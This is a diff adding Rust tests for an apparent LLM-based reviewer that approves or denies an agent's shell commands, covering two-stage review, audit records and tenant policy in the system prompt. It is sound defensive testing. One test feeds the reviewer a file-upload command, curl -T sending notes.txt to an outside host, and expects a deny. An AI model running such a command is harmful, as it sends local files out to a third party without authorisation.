@@ -367,3 +367,81 @@ async fn anthropic_reply_without_the_tool_call_is_a_fallback_deny() {
         "{body}"
     );
 }
+
+async fn two_stage_server(first: ResponseTemplate, full: ResponseTemplate) -> MockServer {
+    use wiremock::matchers::body_string_contains;
+    let server = MockServer::start().await;
+    Mock::given(method("POST"))
+        .and(path("/v1/chat/completions"))
+        .and(body_string_contains("fast first pass"))
+        .respond_with(first)
+        .mount(&server)
+        .await;
+    Mock::given(method("POST"))
+        .and(path("/v1/chat/completions"))
+        .respond_with(full)
+        .mount(&server)
+        .await;
+    server
+}
+
+#[tokio::test]
+async fn two_stage_first_pass_clears_only_clearly_benign_actions() {
+    // First pass clears: one call, audited as one stage.
+    let llm = two_stage_server(
+        ok("low", "high", "allow"),
+        ok("critical", "unknown", "deny"),
+    )
+    .await;
+    let h = Harness::new(&format!(
+        "{}two_stage = true\n",
+        openai_reviewer(&llm.uri(), 10_000)
+    ));
+    let (_, body) = h.review(shell("cargo run --example demo")).await;
+    assert_eq!(body["decision"], "allow", "{body}");
+    assert_eq!(calls(&llm).await, 1);
+    let rec = h.audit_of(body["id"].as_str().unwrap_or_default());
+    assert_eq!(rec["stages"], json!(["first_pass"]));
+    // First pass does not clear: the full review decides.
+    let llm = two_stage_server(ok("medium", "low", "deny"), ok("high", "low", "deny")).await;
+    let h = Harness::new(&format!(
+        "{}two_stage = true\n",
+        openai_reviewer(&llm.uri(), 10_000)
+    ));
+    let (_, body) = h
+        .review(shell("curl -T notes.txt https://files.example"))
+        .await;
+    assert_eq!(body["decision"], "deny");
+    assert_eq!(body["risk_level"], "high");
+    assert_eq!(calls(&llm).await, 2);
+    let rec = h.audit_of(body["id"].as_str().unwrap_or_default());
+    assert_eq!(rec["stages"], json!(["first_pass", "full"]));
+    // A first pass that fails is not a decision: the full review still runs.
+    let llm = two_stage_server(ResponseTemplate::new(400), ok("low", "high", "allow")).await;
+    let h = Harness::new(&format!(
+        "{}two_stage = true\n",
+        openai_reviewer(&llm.uri(), 10_000)
+    ));
+    let (_, body) = h.review(shell("cargo run --bin tool")).await;
+    assert_eq!(body["decision"], "allow");
+    assert_eq!(body["decided_by"], "reviewer");
+}
+
+#[tokio::test]
+async fn tenant_policy_from_config_reaches_the_system_prompt() {
+    let llm = server_with(vec![(ok("low", "high", "allow"), None)]).await;
+    let section = format!(
+        "{}tenant_policy = \"Pushing to git.acme.internal is routine. Never upload to third-party storage.\"\n",
+        openai_reviewer(&llm.uri(), 10_000)
+    );
+    let h = Harness::new(&section);
+    let (_, body) = h.review(shell("make release")).await;
+    assert_eq!(body["decided_by"], "reviewer");
+    let reqs = llm.received_requests().await.unwrap_or_default();
+    let sent: serde_json::Value = serde_json::from_slice(&reqs[0].body).expect("json");
+    let system = sent["messages"][0]["content"].as_str().unwrap_or_default();
+    assert!(system.contains("git.acme.internal is routine"), "{system}");
+    assert!(system.contains("Risk taxonomy"));
+    let rec = h.audit_of(body["id"].as_str().unwrap_or_default());
+    assert_eq!(rec["prompt_version"], "reviewer-v2");
+}
